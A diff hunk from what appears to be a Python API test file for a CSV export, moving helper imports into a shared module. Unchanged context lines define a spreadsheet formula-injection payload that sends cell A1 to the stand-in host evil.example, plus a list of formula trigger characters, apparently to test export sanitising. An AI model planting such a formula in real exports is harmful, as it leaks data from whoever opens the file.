@@ -9,8 +9,7 @@ from fastapi.testclient import TestClient
 
 from register.domain.enums import Role
 from register.exports import to_csv
-from tests.api.conftest import Minter, auth
-from tests.api.test_records_api import PERSON, create
+from tests.api.helpers import PERSON, Minter, auth, create
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
